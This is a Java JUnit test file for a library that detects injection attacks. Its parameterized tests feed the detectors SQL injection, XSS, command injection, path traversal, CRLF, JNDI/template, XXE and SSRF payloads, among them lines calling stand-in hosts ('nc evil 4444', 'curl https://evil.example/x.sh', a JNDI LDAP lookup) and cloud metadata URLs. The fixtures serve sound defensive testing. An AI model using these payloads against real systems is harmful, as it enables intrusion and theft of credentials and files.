package dev.fnguard.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.fnguard.detect.internal.Decoder;
import dev.fnguard.detect.internal.Inspector;
import dev.fnguard.detect.internal.Inspector.FieldKind;
import dev.fnguard.detect.internal.Work;
import java.util.EnumSet;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** Each detector on real attack strings and on benign look-alikes, and the bound on work. */
class DetectorsTest {

    private static final Inspector ALL = new Inspector(EnumSet.allOf(Detector.class));

    private static Optional<Detector> inspect(String s) {
        return ALL.inspect(s, FieldKind.VALUE, new Work());
    }

    @ParameterizedTest
    @ValueSource(strings = {"O'Brien", "select a size", "Rock 'n' roll", "Tom & Jerry; Mickey",
        "Send it to 10 Downing St.", "I'd like 2 or 3 of them", "price <= 5 and >= 3", "Wait... what?",
        "email me at a.b@example.com", "50% off", "C# and C++ are languages", "It's {big} news",
        "Caf%C3%A9 cr%C3%A8me", "sleep 8 hours a night", "Which cat is yours?", "curl up with a book",
        "etc. and passwords", "He said 'more please'", "Tom & Reg went home", "see /about for more",
        "Part 2/3: the end", "50%c0ffee", "3 or 5 large boxes", "\"red shoes\" and \"blue hats\"",
        "frames 8\" or 10\"", "It' is not a drill at all", "Bob' union selected him", "windows, system32 and more",
        "\\\\", "first\u2028second", "para one\u2029para two", "next\u0085line: ok", "the ecosystem('s) health",
        "run system (\"the\" best)"})
    void passesBenignLookAlikes(String s) {
        assertEquals(Optional.empty(), inspect(s), s);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "1' OR '1'='1|SQL", "admin'--|SQL", "1 UNION ALL SELECT password FROM users|SQL",
        "1; DROP TABLE users|SQL", "%2527%2520OR%25201%253D1--|SQL",
        "<script>alert(1)</script>|XSS", "<svg/onload=alert(1)>|XSS", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>|XSS",
        "&lt;img src=x onerror=alert(1)&gt;|XSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>|XSS",
        "; cat /etc/passwd|COMMAND", "$(whoami)|COMMAND", "`id`|COMMAND", "x && nc evil 4444|COMMAND",
        "../../etc/passwd|PATH", "..%252f..%252fetc%252fpasswd|PATH", "..\\\\..\\\\windows\\\\win.ini|PATH",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd|PATH",
        "%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afshadow|PATH", "%f0%80%80%ae%f0%80%80%ae/boot.ini|PATH",
        "%fc%80%80%80%80%ae%fc%80%80%80%80%ae%fc%80%80%80%80%afwin.ini|PATH",
        "%%32%65%%32%65%%32%66etc%%32%66issue|PATH", "%2%65%2%65%2%66etc|PATH",
        "..%u2215..%u2215etc%u2215issue|PATH", "..%u2216..%u2216windows%u2216system.ini|PATH",
        "%uff0e%uff0e/%uff0e%uff0e/windows/win.ini|PATH", "..%uf025..%uf025boot.ini|PATH",
        "..%bg%qf..%bg%qfetc%bg%qfgroup|PATH", "..%c1%pc..%c1%pcboot.ini|PATH", "..%c1%1c..%c1%1cwinnt|PATH",
        "%c0.%c0./%c0.%c0./etc/hosts|PATH", "..%c0%5c..%c0%5cweb.config|PATH", "0x2e0x2e/0x2e0x2e/etc/motd|PATH",
        "....//....//etc/passwd|PATH", "..;/..;/manager/html|PATH", "..%01/..%01/etc/shadow|PATH",
        "\\\\?\\C:\\Windows\\win.ini|PATH", "C:\\boot.ini|PATH", "file:///etc/passwd|PATH",
        "/etc/passwd%00.png|PATH", "image.png%00../x|PATH", "%c0%fe%c0%fe%c0%feetc%c0%fepasswd|PATH",
        "..%c0%5e..%c0%5ewindows%2%fsystem32|PATH",
        "1 union all distinct select 1|SQL", "x' union all select 1--|SQL", "1 or 1=1 metal|SQL",
        "uname -a|COMMAND", "netsh firewall set opmode disable|COMMAND", "perl -e 'print 1'|COMMAND",
        "curl https://evil.example/x.sh|COMMAND", "sleep 10|COMMAND", "which wget|COMMAND", "x' whoami|COMMAND",
        "<?php system('id'); ?>|COMMAND", "; phpinfo()|COMMAND", "cat${IFS}/etc/passwd|COMMAND",
        "a%0a/bin/ls -al|COMMAND", "os.system('id')|COMMAND", "Kernel.exec( \"id\")|COMMAND",
        "x;shell_exec('uname')|COMMAND", "%x(id)|COMMAND", "x\u2028Set-Cookie: a=b|CRLF", "x\u0085Location: /|CRLF",
        "%0aX-Cache2-Status: hit|CRLF",
        "{\"$where\":\"sleep(1000)\"}|NOSQL",
        "x%0d%0aSet-Cookie: a=b|CRLF", "{{7*7}}|TEMPLATE", "${jndi:ldap://evil/a}|TEMPLATE", "#{7*7}|TEMPLATE",
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>|XXE"})
    void firesOnAttack(String s, Detector expected) {
        assertTrue(Inspector.fires(expected, s, FieldKind.VALUE, new Work()), s);
        assertTrue(inspect(s).isPresent(), s);
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://2130706433/",
        "http://0x7f.0.0.1/", "http://0177.0.0.1/", "http://metadata.google.internal/", "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_", "http://10.0.0.5/admin", "http://[::ffff:127.0.0.1]/", "http://[fd00:ec2::254]/",
        "http://user@127.0.0.1:8080/", "http://localhost./", "http://example.com#@169.254.169.254/",
        "http://evil.example&@127.0.0.1#@example.com/", "http://a.example*b/"})
    void ssrfFiresOnInternalTargets(String url) {
        assertTrue(Inspector.fires(Detector.SSRF, url, FieldKind.URL, new Work()), url);
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/hook", "http://93.184.216.34/", "https://api.github.com/repos",
        "https://example.com/page#section", "https://example.com/?email=a@b.com", "https://b%C3%BCcher.example/"})
    void ssrfPassesPublicUrls(String url) {
        assertFalse(Inspector.fires(Detector.SSRF, url, FieldKind.URL, new Work()), url);
    }

    @Test
    void nosqlOperatorAsKeyFires() {
        assertTrue(Inspector.fires(Detector.NOSQL, "$gt", FieldKind.KEY, new Work()));
        assertFalse(Inspector.fires(Detector.NOSQL, "price", FieldKind.KEY, new Work()));
    }

    @Test
    void absolutePathFiresOnlyWhereRelativeNameDeclared() {
        FieldKind relative = new FieldKind(false, false, true);
        assertTrue(Inspector.fires(Detector.PATH, "/srv/data/report.pdf", relative, new Work()));
        assertFalse(Inspector.fires(Detector.PATH, "reports/2024/q1.pdf", relative, new Work()));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"%c3%a9|\u00e9", "%%32%66|/", "%2%66|/", "%%32f|/", "%c0%af|/", "%c0%ae|.",
        "%c1%9c|\\", "%c1%1c|\\", "%c1%pc|\\", "%c0%qf|/", "%bg%qf|/", "%c0%5c|\\", "%c0.|.", "%e0%80%ae|.",
        "%f0%80%80%af|/", "%f8%80%80%80%ae|.", "%fc%80%80%80%80%af|/", "%252e|.", "%25252f|/", "%F0%9F%98%80|\ud83d\ude00",
        "%u2215|\u2215", "50%off|50%off", "%zz|%zz"})
    void decoderUndoesLayers(String raw, String decoded) {
        assertEquals(decoded, Decoder.decode(raw, new Work()), raw);
    }

    /** Pathological inputs: the steps stay within a small constant times the length. */
    @ParameterizedTest
    @ValueSource(strings = {"'", "\"", "%25", "&#x26;", "<", "..", "$(", "{{", "\\u0027", "-- ", "or 1=", "a",
        "%%32", "%%32%65", "%c0", "%c1%pc", "%c0%", "%e0%80", "%f0%80%80", "%fc%80%80%80%80", "%bg", "' ", "'\t",
        "..\u2215", "0x2e", "..2f", "which ", "uname ", "\n\n", "#@", "etc%", "etc",
        "windows%c1", "\" and \"", "(\"", "system(\"", "%x(", "\u2028"})
    void workIsLinearInLengthOnPathologicalInput(String unit) {
        int target = 1 << 20;
        String s = unit.repeat(target / unit.length());
        Work work = new Work();
        ALL.inspect(s, FieldKind.VALUE, work);
        assertTrue(work.steps() <= 40L * s.length(), unit + ": " + work.steps() + " steps for " + s.length() + " chars");
    }

    /**
     * Each detector alone, on a run of a marker at 256 KiB and at 1 MiB: the counted work (which
     * includes every {@code indexOf} a detector repeats in a loop) grows at most about 4 times, where a
     * search restarted from each occurrence of the marker would grow 16 times. Counting, never timing.
     * {@code /*!} caught the SQL comment scan searching for its end once per opening, a run of
     * {@code .} (as a URL) the SSRF host losing its trailing dots one copy at a time.
     */
    @ParameterizedTest
    @ValueSource(strings = {"/*!", "/*", "/*!1", "*/", ".", "a.", "..", "...", "on", " on", " onx", "<", "<a", "</",
        "<a ", "$", " $", "$gt", "(", "(\"", "system(\"", "%x(", "$(", "`", "'", "\"", "' ", "\n", "\n ", "\na",
        "\nhost", "etc", "etc%", "windows", "winnt", "system32", "{{", "${", "[[", "@(", "<%", "&", "&#", "%25", "%c0",
        "%%32", "\\u0027", "-- ", "or 1=", "a", ";", "|", "&&", "#@", "@", "0x", "..2f", "\u2028", "\r", ":", "//",
        "@a", "[", "]", "[::", "a@", "#@a", ";//"})
    void workGrowsLinearlyForEachDetector(String unit) {
        int reps = (1 << 18) / unit.length();
        for (Detector d : Detector.values()) {
            FieldKind kind = d == Detector.SSRF ? FieldKind.URL : FieldKind.VALUE;
            long small = stepsOf(d, unit.repeat(reps), kind);
            long large = stepsOf(d, unit.repeat(4 * reps), kind);
            assertTrue(large <= 4 * small + small / 8, d + " on " + unit + ": " + small + " steps at n, " + large + " at 4n");
        }
    }

    private static long stepsOf(Detector d, String s, FieldKind kind) {
        Work work = new Work();
        Inspector.fires(d, s, kind, work);
        return work.steps();
    }
}
